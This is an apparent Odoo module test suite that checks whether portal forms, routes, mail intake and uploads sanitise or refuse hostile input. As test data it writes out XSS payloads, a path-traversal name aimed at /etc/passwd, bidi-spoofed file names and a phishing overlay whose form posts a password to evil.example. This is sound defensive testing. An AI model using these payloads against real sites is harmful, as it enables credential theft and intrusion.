"""Hostile and bad input: script payloads, odd unicode, absurd numbers and dates.

Each one ends in a clear message (ValidationError / UserError naming the problem) or in
stored, harmless data; never in a crash or a half-written record."""

import base64
import inspect
import itertools
from unittest.mock import patch
from urllib.parse import unquote

import lxml.html
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from psycopg2 import IntegrityError

from odoo import fields
from odoo.exceptions import UserError, ValidationError
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from ..lib.outside_text import plain_text
from .common import BeneficiaryCase
from .common_request import PNG
from .test_portal_isolation import CSRF_RE, NOTHING, ROUTES, PortalIsolationFixtures, module_routes

PNG_BYTES = base64.b64decode(PNG)

PAYLOAD = "<script>alert('x')</script>"
HTML_PAYLOAD = (
    "<p>Hello</p><script>alert('x')</script><img src=x onerror=\"alert(1)\">"
    '<a href="javascript:alert(2)">click</a><iframe src="https://evil.example"></iframe>'
)
ARABIC_DIGITS = "٠١٢٣٤٥٦٧٨٩"
PERSIAN_DIGITS = "۰۱۲۳۴۵۶۷۸۹"
INVISIBLE = ("\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff", " ", "-")
# derandomized: the suite tries the same examples on every run, so CI never fails at random
HYPOTHESIS = settings(
    max_examples=25,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)


def assert_harmless(case, html, where):
    """No element or attribute of ``html`` can run a script (escaped text is harmless)."""
    for fragment in html if isinstance(html, list) else [html]:
        if not fragment:
            continue
        for element in lxml.html.fragments_fromstring(str(fragment)):
            if not isinstance(element, lxml.html.HtmlElement):
                continue
            for node in element.iter():
                case.assertNotIn(
                    node.tag, ("script", "iframe", "object", "embed"), f"{where} keeps <{node.tag}>"
                )
                for name, value in node.attrib.items():
                    case.assertFalse(name.lower().startswith("on"), f"{where} keeps the {name} attribute")
                    case.assertNotIn("javascript:", value.lower(), f"{where} keeps a javascript: link")


@tagged("post_install", "-at_install")
class TestHostileInput(BeneficiaryCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.Complaint = cls.env["beneficiary.complaint"]
        cls.complaint_category = cls.env["beneficiary.complaint.category"].create(
            {"name": "Service quality", "kind": "complaint", "sla_days": 5}
        )
        # the hourly allowance of a sender has tests of its own (TestBeneficiaryPortal, TestConcurrency)
        cls.env["ir.config_parameter"].set_param("beneficiary_relations.complaint_limit_per_hour", "100000")
        cls.env["ir.config_parameter"].set_param("beneficiary_relations.application_limit_per_hour", "100000")

    def _public_values(self, **values):
        vals = {
            "subject": "Late answer",
            "description": "I am still waiting.",
            "contact_name": "A visitor",
            "contact_email": "visitor@example.com",
            "category_id": self.complaint_category.id,
        }
        vals.update(values)
        return vals

    # ------------------------------------------------------------------ scripts and HTML
    def test_every_stored_html_field_is_sanitised(self):
        """A new Html field of the module that keeps scripts fails here."""
        module_models = [
            name
            for name, model in self.env.registry.items()
            if model._original_module == "beneficiary_relations" and not model._abstract
        ]
        checked = 0
        for model in module_models:
            for name, field in self.env[model]._fields.items():
                if field.type == "html" and field.store:
                    checked += 1
                    with self.subTest(model=model, field=name):
                        self.assertTrue(field.sanitize, f"{model}.{name} must be sanitised")
                        self.assertTrue(field.sanitize_tags, f"{model}.{name} must drop unsafe tags")
        self.assertGreater(checked, 5)

    def test_script_in_portal_complaint_stored_escaped_and_rendered_escaped(self):
        complaint = self.Complaint._portal_create(
            self.company,
            self._public_values(subject=PAYLOAD, description=HTML_PAYLOAD, contact_name=PAYLOAD),
            address="203.0.113.7",
        )
        assert_harmless(self, complaint.description, "the description")
        self.assertIn("&lt;script&gt;", complaint.description, "the visitor's text is kept, as text")
        self.assertEqual(complaint.subject, PAYLOAD, "plain-text fields keep the text as typed")
        html = (
            self.env["ir.actions.report"]
            ._render_qweb_html(
                "beneficiary_relations.beneficiary_complaint_action_report_acknowledgement", complaint.ids
            )[0]
            .decode()
        )
        self.assertNotIn(PAYLOAD, html, "the letter escapes the subject")
        self.assertIn("&lt;script&gt;", html)

    def test_script_in_staff_html_fields_is_dropped(self):
        complaint = self.Complaint.create(
            {
                "subject": "By phone",
                "category_id": self.complaint_category.id,
                "channel_id": self.env.ref("beneficiary_relations.channel_phone").id,
                "beneficiary_id": self.beneficiary_a.id,
                "description": HTML_PAYLOAD,
            }
        )
        complaint.resolution = HTML_PAYLOAD
        for field in ("description", "resolution"):
            assert_harmless(self, complaint[field], field)
            self.assertIn("Hello", complaint[field])

    def test_script_in_incoming_mail_is_sanitised(self):
        raw = (
            "From: Evil Sender <evil@example.com>\r\n"
            "To: complaints@example.com\r\n"
            f"Subject: {PAYLOAD} help\r\n"
            "Message-ID: <hostile-1@example.com>\r\n"
            "MIME-Version: 1.0\r\n"
            "Content-Type: text/html; charset=utf-8\r\n\r\n"
            f"<html><body>{HTML_PAYLOAD}</body></html>\r\n"
        )
        complaint_id = self.env["mail.thread"].message_process("beneficiary.complaint", raw)
        complaint = self.Complaint.browse(complaint_id)
        self.assertEqual(complaint.contact_email, "evil@example.com")
        assert_harmless(self, complaint.description, "the description of a mailed complaint")
        assert_harmless(self, complaint.message_ids.mapped("body"), "the chatter")
        self.assertIn("Hello", complaint.description)

    # ------------------------------------------------------------------ odd unicode
    def test_ids_in_any_digits_and_look_alikes(self):
        typed = "١٠٠٠\u200b٠٠٠٠٠٨"  # Arabic-Indic digits with a zero-width space
        beneficiary = self.Beneficiary.create(
            {"name": "Digits", "category_id": self.category_a.id, "national_id": typed}
        )
        self.assertEqual(beneficiary.national_id, "1000000008")
        for value in ("1000000²08", "①000000008"):
            with self.subTest(value=value), self.assertRaises(ValidationError), self.env.cr.savepoint():
                self.Beneficiary.create(
                    {"name": "Look-alike", "category_id": self.category_a.id, "national_id": value}
                )

    @HYPOTHESIS
    @given(
        operator=st.sampled_from("0134589"),  # 052 and 057X are not all mobile ranges
        rest=st.text(alphabet="0123456789", min_size=7, max_size=7),
        scripts=st.lists(
            st.sampled_from(("0123456789", ARABIC_DIGITS, PERSIAN_DIGITS)), min_size=10, max_size=10
        ),
        noise=st.lists(st.tuples(st.integers(0, 10), st.sampled_from(INVISIBLE)), max_size=3),
    )
    def test_mobile_in_any_digits_is_normalised(self, operator, rest, scripts, noise):
        body = operator + rest
        number = "05" + body
        typed = [script[int(digit)] for digit, script in zip(number, scripts, strict=True)]
        for position, mark in sorted(noise, reverse=True):
            typed.insert(position, mark)
        typed = "".join(typed)
        self.assertEqual(self.Beneficiary._normalize_mobile(typed), "+9665" + body, repr(typed))

    @HYPOTHESIS
    @given(st.text(alphabet=st.characters(categories=["Nd", "No", "Cf", "Zs", "Pd", "Lo"]), max_size=16))
    def test_mobile_normaliser_answers_or_refuses_clearly(self, typed):
        try:
            normalised = self.Beneficiary._normalize_mobile(typed)
        except ValidationError as error:
            self.assertIn("is not valid", error.args[0])
        else:
            self.assertTrue(not typed or normalised.startswith("+"), repr(normalised))

    # ------------------------------------------------------------------ numbers and dates
    @mute_logger("odoo.sql_db")
    def test_negative_and_absurd_amounts_are_refused(self):
        compensation = self.env["beneficiary.compensation"].create({"beneficiary_id": self.beneficiary_a.id})
        for field, value in (("amount_agreed", -100), ("damage_amount", -1)):
            with self.subTest(field=field), self.assertRaises(IntegrityError), self.env.cr.savepoint():
                compensation.write({field: value})
                self.env.flush_all()
        self.env.invalidate_all()
        self.assertFalse(compensation.amount_agreed)
        # a request that fails is rolled back as a whole: the savepoint plays that part
        for income in (-2500, 10**12):
            with self.subTest(income=income), self.assertRaises(ValidationError), self.env.cr.savepoint():
                self.beneficiary_a.sudo().write({"monthly_income": income})
        self.assertFalse(self.beneficiary_a.sudo().monthly_income)

    def test_dates_in_the_wrong_order_are_refused(self):
        with self.assertRaisesRegex(ValidationError, "future"), self.env.cr.savepoint():
            self.Beneficiary.create(
                {"name": "Unborn", "category_id": self.category_a.id, "birth_date": "2999-01-01"}
            )
        with self.assertRaisesRegex(ValidationError, "cannot end before it starts"), self.env.cr.savepoint():
            self.env["beneficiary.program"].create(
                {"name": "Backwards", "date_start": "2027-02-01", "date_end": "2027-01-01"}
            )
        self.assertFalse(self.Beneficiary.search([("name", "=", "Unborn")]), "nothing half-written")

    # ------------------------------------------------------------------ the public complaint form
    def test_public_form_refuses_a_bad_e_mail(self):
        with self.assertRaisesRegex(ValidationError, "e-mail"), self.env.cr.savepoint():
            self.Complaint._portal_create(self.company, self._public_values(contact_email=PAYLOAD))
        self.assertFalse(self.Complaint.search([("contact_name", "=", "A visitor")]))

    @HYPOTHESIS
    @given(
        subject=st.text(max_size=60),
        description=st.one_of(st.text(max_size=200), st.just(HTML_PAYLOAD)),
        name=st.text(max_size=40),
        mobile=st.one_of(st.none(), st.text(alphabet="0123456789٠١٢٣٤٥٦٧٨٩ +-", max_size=14)),
    )
    def test_public_form_creates_a_clean_complaint_or_says_why(self, subject, description, name, mobile):
        values = self._public_values(subject=subject, description=description, contact_name=name)
        if mobile is not None:
            values.update(contact_email=False, contact_mobile=mobile)
        before = self.Complaint.search_count([])
        try:
            with self.env.cr.savepoint():
                complaint = self.Complaint._portal_create(self.company, values, address="198.51.100.1")
        except (UserError, ValidationError) as error:
            self.assertTrue(error.args[0])
            self.assertEqual(self.Complaint.search_count([]), before, "nothing half-written")
            return
        # NUL characters are dropped (PostgreSQL refuses them in text), bidi overrides too
        self.assertEqual(complaint.subject, plain_text(subject).strip())
        assert_harmless(self, complaint.description, "the description")
        self.assertEqual(complaint.state, "acknowledged")
        self.assertTrue(complaint.sla_deadline)
        self.assertLessEqual(fields.Datetime.now(), complaint.sla_deadline)


# ---------------------------------------------------------------------- the routes
# what a forged form, query string or JSON call may carry (a lone surrogate arrives as
# the bytes of its UTF-8 encoding in a form, and as itself in JSON)
HUGE = "x" * 1_000_000
HUGE_IN_URL = "x" * 20_000  # a longer URL is refused by the server before any route
HOSTILE_VALUES = (
    "\x00",
    "ab\x00cd",
    HUGE,
    b"\xed\xa0\x80",
    "\u202eexe.gnp",
    "\u200b\u200c\u200d\u2060\ufeff",
    "a" + "\u0301" * 3000,
    "²",
    "١٢",
    "99999999999999999999",
    "-1",
    "",
    "<script>alert(1)</script>",
)
HOSTILE_JSON_VALUES = (
    "\x00",
    "\ud800",
    "x" * 1_000_000,
    "\u202eexe.gnp",
    None,
    True,
    12,
    1.5,
    10**30,
    [],
    ["a"],
    {"a": 1},
)
HOSTILE_IDS = (0, 2**31, 2**63, 10**30)
HOSTILE_FILES = (
    ("a\x00b.png", PNG_BYTES, "image/png"),
    ("../../../etc/passwd", PNG_BYTES, "image/png"),
    ("\u202egnp.exe", PNG_BYTES, "image/png"),
    ("\u200b" * 10 + "x" * 5000 + ".png", PNG_BYTES, "image/png"),
    ("page.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/svg+xml"),
    ("empty.png", b"", "image/png"),
    ("page.html", b"<html><script>alert(1)</script></html>", "text/html"),
)


@tagged("post_install", "-at_install")
class TestHostileRoutes(PortalIsolationFixtures, HttpCase):
    """Every route of the module (ROUTES, checked against Odoo's routing map) answers
    hostile values in each of its arguments and form fields, missing fields, hostile ids
    in its URL and hostile uploads with a page or a clear message, for a visitor and for
    the beneficiary whose records they are: never with a server error."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.routes = module_routes(cls.env)
        # the throttle of the public forms is tested on its own (TestBeneficiaryPortal, TestPublicApplication)
        cls.env["ir.config_parameter"].set_param("beneficiary_relations.complaint_limit_per_hour", "100000")
        cls.env["ir.config_parameter"].set_param("beneficiary_relations.application_limit_per_hour", "100000")

    def setUp(self):
        super().setUp()
        # the PDF itself is not what is tested here: the routes' handling of their input is
        patcher = patch.object(
            type(self.env["ir.actions.report"]), "_run_wkhtmltopdf", return_value=b"%PDF-1.4 hostile"
        )
        patcher.start()
        self.addCleanup(patcher.stop)

    def _fresh(self, rule):
        """Records a call may use up (a request signed, a document received, a program
        registered), renewed so that every call reaches as deep as a genuine one."""
        if rule == "/my/requests/<int:request_id>/sign":
            self.request_to_sign = self.Request.create(
                {
                    "beneficiary_id": self.beneficiary_a.id,
                    "service_type_id": self.signed_service.id,
                    "channel_id": self.channel_phone.id,
                    "description": "<p>To sign</p>",
                }
            )
            self.request_to_sign._portal_ensure_token()
        elif rule == "/my/requests/<int:request_id>/upload":
            self.request_a = self._new_request()
            self.request_a.action_submit()
            self.request_a._portal_ensure_token()
        elif rule == "/beneficiary-policy/acknowledge/<int:acknowledgment_id>/sign":
            self.acknowledgment = self.acknowledgment.copy({"employee_name": "Another employee"})
        elif rule == "/my/programs/<int:program_id>/register":
            self.open_program = self.open_program.copy({"name": "Open course"})
            self.open_program.action_open_registration()

    def _hostile_calls(self, rule):
        """(what, path, params, files) of every hostile call of ``rule``."""
        spec = ROUTES[rule]
        json_route = spec["kind"] == "json"
        values = HOSTILE_JSON_VALUES if json_route else HOSTILE_VALUES
        if spec["kind"] == "get":
            values = tuple(HUGE_IN_URL if value is HUGE else value for value in values)

        def genuine():
            self._fresh(rule)
            return (
                spec.get("path", NOTHING)(self),
                spec.get("params", NOTHING)(self),
                spec.get("files", NOTHING)(self),
            )

        path, params, files = genuine()
        arguments = [
            name
            for name, parameter in inspect.signature(self.routes[rule].func).parameters.items()
            if parameter.kind is not parameter.VAR_KEYWORD and name not in path
        ]
        yield "nothing", path, {}, {}
        for name in dict.fromkeys([*params, *arguments]):
            for value in values:
                path, params, files = genuine()
                yield f"{name}={value!r:.40}", path, dict(params, **{name: value}), files
        for name in path:
            for value in HOSTILE_IDS:
                path, params, files = genuine()
                yield f"<{name}>={value}", dict(path, **{name: value}), params, files
        for name in files:
            for upload in HOSTILE_FILES:
                path, params, files = genuine()
                yield f"{name}={upload[0]!r:.40}", path, params, dict(files, **{name: upload})

    def _try_hostile_input(self, who, visitor=False):
        csrf = self._csrf()
        for rule in ROUTES:
            calls = self._hostile_calls(rule)
            if visitor and self.routes[rule].routing["auth"] == "user":
                # sent to the login page before any value is read: a few calls tell
                calls = itertools.islice(calls, 0, None, 25)
            for what, path, params, files in calls:
                with self.subTest(who=who, rule=rule, what=what):
                    response = self._call(rule, path, params, files, csrf)
                    self._assert_answered(response, f"{who}: {rule} {what}")

    @mute_logger("odoo.http", "odoo.addons.http_routing.models.ir_http", "odoo.addons.base.models.ir_http")
    def test_visitor_hostile_input(self):
        self._try_hostile_input("visitor", visitor=True)

    @mute_logger("odoo.http", "odoo.addons.http_routing.models.ir_http", "odoo.addons.base.models.ir_http")
    def test_beneficiary_hostile_input(self):
        self.authenticate("t_iso_portal_a", "t_iso_portal_a")
        self._try_hostile_input("portal A")


# a page-restyling payload: a full-screen link over the officer's backend, a remote image
# reporting the visit, a form posting elsewhere
RESTYLING = (
    '<a href="https://evil.example/login" style="position:fixed;top:0;left:0;width:100%;height:100%;'
    'z-index:9999;background:#fff;font-size:60px">SESSION EXPIRED, log in again</a>'
    '<img src="https://evil.example/seen.png"><form action="https://evil.example/steal">'
    '<input name="password"></form><p class="o_hidden">Need a food basket</p>'
)


def assert_plain(case, html, where):
    """``html`` holds text only: paragraphs and line breaks, and the links Odoo makes of
    addresses written in the text, none of the sender's elements or attributes."""
    assert_harmless(case, html, where)
    for fragment in html if isinstance(html, list) else [html]:
        for element in lxml.html.fragments_fromstring(str(fragment or "")):
            if not isinstance(element, lxml.html.HtmlElement):
                continue
            for node in element.iter():
                case.assertIn(node.tag, ("p", "br", "a", "div"), f"{where} keeps <{node.tag}>")
                case.assertNotIn("style", node.attrib, f"{where} keeps a style")
                case.assertNotIn("class", node.attrib, f"{where} keeps a class")
                if node.tag == "a":
                    case.assertEqual(node.text, unquote(node.get("href")), f"{where} keeps a disguised link")


@tagged("post_install", "-at_install")
class TestHostileTextOnPortal(PortalIsolationFixtures, HttpCase):
    """Text typed by beneficiaries, visitors and mail senders, through the real routes and
    the mail gateway: stored as plain text and shown escaped."""

    def _post(self, url, data, files=None):
        response = self.url_open(url, data=dict(data, csrf_token=self._csrf()), files=files)
        self.assertLess(response.status_code, 500, url)
        return response

    def test_request_description_typed_on_the_portal_is_plain_text(self):
        self.authenticate("t_iso_portal_a", "t_iso_portal_a")
        self._post(
            "/my/requests/new",
            {"service_type_id": self.service.id, "description": RESTYLING},
            files={f"document_{self.doc_id.id}": ("id.png", PNG_BYTES, "image/png")},
        )
        request = self.Request.search([("beneficiary_id", "=", self.beneficiary_a.id)], limit=1)
        self.assertEqual(request.channel_id, self.env.ref("beneficiary_relations.channel_portal"))
        assert_plain(self, request.description, "the request's description")
        self.assertIn("SESSION EXPIRED", request.description, "the text is kept, as text")
        self.assertIn("&lt;img", request.description)
        page = self.url_open(request.get_portal_url()).text
        self.assertNotIn('src="https://evil.example', page, "shown escaped to the beneficiary")
        self.assertNotIn("position:fixed", page.replace("position:fixed;top", ""))

    def test_complaint_mailed_to_the_alias_is_plain_text(self):
        raw = (
            "From: Sender <sender@elsewhere.example>\r\n"
            "To: complaints@example.com\r\n"
            "Subject: =?utf-8?q?Urgent=E2=80=AE?=\r\n"
            "Message-ID: <restyling-1@example.com>\r\n"
            "MIME-Version: 1.0\r\n"
            "Content-Type: text/html; charset=utf-8\r\n\r\n"
            f"<html><body>{RESTYLING}</body></html>\r\n"
        )
        complaint = self.env["beneficiary.complaint"].browse(
            self.env["mail.thread"].message_process("beneficiary.complaint", raw)
        )
        self.assertEqual(complaint.subject, "Urgent", "no bidi override in the subject")
        assert_plain(self, complaint.description, "the mailed complaint's description")
        self.assertIn("SESSION EXPIRED", complaint.description)
        self.assertIn("evil.example/seen.png", complaint.description, "the image's address stays, as text")
        mail_message = complaint.message_ids.filtered(lambda m: m.message_type == "email")
        self.assertTrue(mail_message, "the mail is in the chatter")
        assert_plain(self, mail_message.mapped("body"), "the chatter")
        # a reply by e-mail to the complaint's thread is kept as plain text as well
        reply = raw.replace("<restyling-1@", "<restyling-2@").replace(
            "Subject:", f"In-Reply-To: {mail_message.message_id}\r\nSubject:"
        )
        self.env["mail.thread"].message_process("beneficiary.complaint", reply)
        replies = complaint.message_ids.filtered(lambda m: m.message_type == "email") - mail_message
        self.assertTrue(replies)
        assert_plain(self, replies.mapped("body"), "a reply by e-mail")

    def test_rating_feedback_is_plain_text(self):
        request = self._bring_to(self._new_request(), "delivered")
        token = request._portal_rating_token()
        csrf = CSRF_RE.search(self.url_open(f"/rate/{token}/1").text).group(1)
        response = self.url_open(
            f"/rate/{token}/submit_feedback",
            data={"csrf_token": csrf, "rate": 1, "feedback": f"Too slow\x00{RESTYLING}"},
        )
        self.assertEqual(response.status_code, 200)
        self.assertTrue(request.rating_ids.feedback.startswith("Too slow<a"), "NUL dropped, text kept")
        follow_up = request.activity_ids.filtered(lambda a: a.user_id == self.officer_a)
        assert_plain(self, follow_up.note, "the call-back activity")
        self.assertIn("SESSION EXPIRED", follow_up.note)

    def test_nul_characters_in_portal_forms(self):
        """Finding 7: a NUL typed (or forged) in the data request, the signature's name
        and the program registration used to end in a server error."""
        self.authenticate("t_iso_portal_a", "t_iso_portal_a")
        self._post(
            "/my/beneficiary/data-request",
            {"request_type": "correction", "description": "My mobile\x00 changed"},
        )
        data_request = self.env["beneficiary.data.request"].search(
            [("beneficiary_id", "=", self.beneficiary_a.id)]
        )
        self.assertEqual(data_request.description, "My mobile changed")
        result = self.make_jsonrpc_request(
            f"/my/requests/{self.request_to_sign.id}/sign",
            {"name": "Fahad\x00 Al-Dosari", "signature": PNG.decode()},
        )
        self.assertNotIn("error", result)
        self.assertEqual(self.request_to_sign.declaration_signer_name, "Fahad Al-Dosari")
        program = self.open_program.copy({"name": "Second course"})
        program.action_open_registration()
        self._post(
            f"/my/programs/{program.id}/register",
            {
                "beneficiary_id": self.beneficiary_a.id,
                "mobile": "0551234567",
                "guardian_name": "Guar\x00dian",
                "motivation": "To\x00 learn",
            },
        )
        registration = program.registration_ids
        self.assertEqual(registration.beneficiary_id, self.beneficiary_a)
        self.assertEqual((registration.guardian_name, registration.motivation), ("Guardian", "To learn"))

    def test_text_too_long_is_refused_with_a_message(self):
        self.authenticate("t_iso_portal_a", "t_iso_portal_a")
        before = self.Request.search_count([])
        response = self._post(
            "/my/requests/new",
            {"service_type_id": self.service.id, "description": "x" * 200_000},
            files={f"document_{self.doc_id.id}": ("id.png", PNG_BYTES, "image/png")},
        )
        self.assertIn("is too long (200000 characters)", response.text)
        self.assertEqual(self.Request.search_count([]), before, "nothing written")

    def test_uploaded_file_names_are_cleaned(self):
        request = self._new_request()
        request.action_submit()
        self.authenticate("t_iso_portal_a", "t_iso_portal_a")
        document = request.document_ids[1]
        self._post(
            f"/my/requests/{request.id}/upload",
            {"document_id": document.id},
            files={"file": ("..\\..\\\u202egnp.exe\u200b.png", PNG_BYTES, "image/png")},
        )
        self.assertEqual(document.attachment_ids.name, "gnp.exe.png")
